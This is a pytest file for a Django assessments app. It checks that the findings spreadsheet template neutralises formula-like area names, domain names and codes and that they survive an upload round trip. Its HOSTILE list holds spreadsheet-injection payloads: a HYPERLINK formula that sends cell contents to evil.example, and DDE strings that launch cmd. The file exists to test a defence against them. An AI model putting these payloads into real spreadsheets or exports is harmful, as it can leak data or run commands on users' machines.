"""The findings template writes names and codes that look like formulas as text, and reads
them back as they were."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.findings_sheet import LISTS_SHEET, SHEET_NAME, build_template
from assessments.models import Finding
from strategy.models import HealthDomain
from tests.assessments.test_findings_sheet import as_upload, upload
from tests.assessments.workflow_helpers import domains, make_draft

pytestmark = pytest.mark.django_db

# What Excel or LibreOffice would run, or some importers would: the sign of a formula, or a
# tab or carriage return before it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def as_read_back(text: str) -> str:
    """The neutralised text as openpyxl reads it: XML turns a carriage return into a newline."""
    return "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("name", HOSTILE)
def test_area_and_domain_names_are_written_as_text_in_every_sheet(world, name):
    world.area.name_en = name
    world.area.save()
    domain = domains(1)[0]
    domain.name_en = name
    domain.save()
    assessment = make_draft(world)

    workbook = load_workbook(io.BytesIO(build_template(assessment)))

    findings = workbook[SHEET_NAME]
    rows = list(findings.iter_rows(min_row=2))
    assert {row[1].value for row in rows} == {as_read_back(name)}
    assert {row[3].value for row in rows if row[2].value == domain.code} == {as_read_back(name)}
    lists = {row[0].value: row[1].value for row in workbook[LISTS_SHEET].iter_rows(min_row=2)}
    assert lists[domain.code] == as_read_back(name)
    assert all(
        cell.data_type != "f" for sheet in workbook.worksheets for row in sheet for cell in row
    )


def test_a_domain_code_that_starts_with_a_minus_sign_survives_the_round_trip(world, login):
    minus = HealthDomain.objects.create(
        code="-risk-communication", name_en="Risk communication", order=99
    )
    domains()
    assessment = make_draft(world)
    client = login(world.user("focal"))
    workbook = load_workbook(
        io.BytesIO(
            client.get(reverse("assessments:findings_template", args=[assessment.pk])).content
        )
    )
    sheet = workbook[SHEET_NAME]
    (row,) = [row for row in sheet.iter_rows(min_row=2) if row[2].value == "'-risk-communication"]
    row[4].value = 4

    response = upload(client, assessment, as_upload(workbook))

    assert response.status_code == 302
    assert list(Finding.objects.values_list("domain", "severity")) == [(minus.pk, 4)]
